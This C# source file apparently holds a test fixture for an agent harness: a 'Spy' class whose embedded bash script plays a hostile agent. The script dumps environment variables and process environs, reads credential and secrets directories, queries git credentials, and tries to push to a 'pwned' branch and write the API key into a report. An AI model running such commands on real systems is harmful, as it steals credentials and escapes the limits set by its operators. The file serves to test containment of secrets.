namespace Campaigns.Secret;

/// <summary>An agent that prints what it can get at, and asks for more.</summary>
internal static class Spy
{
    /// <summary>A bash command line; it does its task as well.</summary>
    internal static readonly string Command = """
        cat >/dev/null; mkdir -p work; exec 2>&1
        echo "key: $MODEL_API_KEY, $EXTRA_SETTING."; echo "https://x:$MODEL_API_KEY@git.invalid/"; echo "$MODEL_API_KEY$MODEL_API_KEY"
        env; export -p; set; tr '\0' '\n' </proc/self/environ; tr '\0' '\n' </proc/$PPID/environ; tr '\0' '\n' </proc/$PPID/cmdline
        for place in /etc/git-credentials /var/run/secrets /run/secrets /courier /home/courier "${COURIER_DIR:-/nowhere}" "${GIT_TOKEN_FILE:-/nowhere}" "$HOME" "$TMPDIR" ..; do ls -la "$place"; cat "$place"/* "$place"/.??*; done
        git config --list --show-origin; git remote -v; git log -3 --format=fuller
        printf 'protocol=http\nhost=127.0.0.1\n\n' | GIT_TERMINAL_PROMPT=0 timeout 5 git credential fill
        GIT_TERMINAL_PROMPT=0 timeout 5 git push "$SPIED" HEAD:refs/heads/pwned
        printf 'reason=the key was %s\n' "$MODEL_API_KEY" >"$AGENT_REPORT"
        echo "made by $TASK_ID" >"work/$TASK_ID.txt"; echo spied
        """.ReplaceLineEndings("; ");
}
